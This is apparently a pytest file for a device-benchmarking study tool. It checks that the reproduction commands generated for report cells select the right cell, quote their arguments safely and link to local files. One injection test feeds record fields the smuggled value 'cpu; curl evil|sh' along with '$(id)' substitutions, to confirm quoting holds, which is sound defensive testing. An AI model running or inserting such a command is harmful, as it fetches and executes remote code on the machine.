"""The commands of a cell are those that measure it, and its links lead to its files."""

import shlex
from pathlib import Path

import synthetic
import yaml
from report_page import ROOT

from whichdevice.cells import parse_run
from whichdevice.config.load import load_study
from whichdevice.config.model import Workload
from whichdevice.report.cells import Links, machine_cards, reproductions
from whichdevice.results import StudyResults
from whichdevice.tables.make import write_tables


def test_the_command_selects_this_cell_and_no_other(tmp_path: Path) -> None:
    workload = Workload(batch_size=[8, 16], loop=["epoch", "fit"], fraction=[0.5, 1.0], sequence_length=[100, 168])
    made = synthetic.small_study(workloads={"weather_gru": workload})
    config, paths = synthetic.write_study(made, tmp_path, artefacts=False)
    write_tables(config, paths, ROOT / "config/published.csv", tmp_path / "tables")
    study = StudyResults(config, tmp_path / "tables")
    cards = {key: card.number for key, card in machine_cards(study.runs).items()}
    found = reproductions(study, tmp_path / "report.html", cards)
    assert len(found) == len(study.summary)
    card = found["gpu", "weather_gru", "tensorflow", "float32", 16, 0.5, "fit", 168]
    only = yaml.safe_load(card["workflow"].split("'only=")[1].rstrip("'"))
    call = load_study({**made.model_dump(mode="json"), "only": only})
    assert call.only.model_dump(exclude_none=True) == {axis: [value] for axis, value in only.items()}
    assert len(only) == 8 and card["workflow"].startswith(
        "snakemake --cores 1 gpu --configfile results/small/config.yaml"
    )
    run = parse_run(card["by_hand"].split()[-1])
    assert (run.cell.loop, run.cell.sequence_length, run.repeat) == ("fit", 168, 1)
    assert [(tmp_path / address).is_file() for _, _, address in card["records"]] == [True, True]
    assert (tmp_path / card["config"]).is_file() and card["machines"] == [2]


def test_what_a_record_says_is_one_word_of_a_command(tmp_path: Path) -> None:
    evil = "cpu; curl evil|sh"
    made = synthetic.small_study()
    config, paths = synthetic.write_study(made, tmp_path, artefacts=False)
    write_tables(config, paths, ROOT / "config/published.csv", tmp_path / "tables")
    study = StudyResults(config, tmp_path / "tables")
    runs = study.runs.copy()
    study.runs = runs.assign(kind=evil, device=evil, run=evil + "/$(id)/`id`/r1")
    for card in reproductions(study, tmp_path / "report.html", {}).values():
        for command in (card["workflow"], card["by_hand"], card["then"]):
            words = shlex.split(command)
            assert shlex.join(words) == command and command.count(evil) == sum(evil in word for word in words)
        assert shlex.split(card["workflow"])[:4] == ["snakemake", "--cores", "1", evil]


def test_a_run_of_an_unknown_kind_is_measured_again_by_its_cell_alone(tmp_path: Path) -> None:
    made = synthetic.small_study()
    config, paths = synthetic.write_study(made, tmp_path, artefacts=False)
    write_tables(config, paths, ROOT / "config/published.csv", tmp_path / "tables")
    study = StudyResults(config, tmp_path / "tables")
    study.runs = study.runs.assign(kind=None)
    for card in reproductions(study, tmp_path / "report.html", {}).values():
        assert card["workflow"].startswith("snakemake --cores 1 all --configfile")


def test_addresses_are_relative_to_the_page_and_a_bucket_is_none(tmp_path: Path) -> None:
    links = Links(tmp_path / "report.html")
    assert links.to(tmp_path / "runs/a/record.json") == "runs/a/record.json"
    assert links.to("gs://bucket/a/record.json") is None
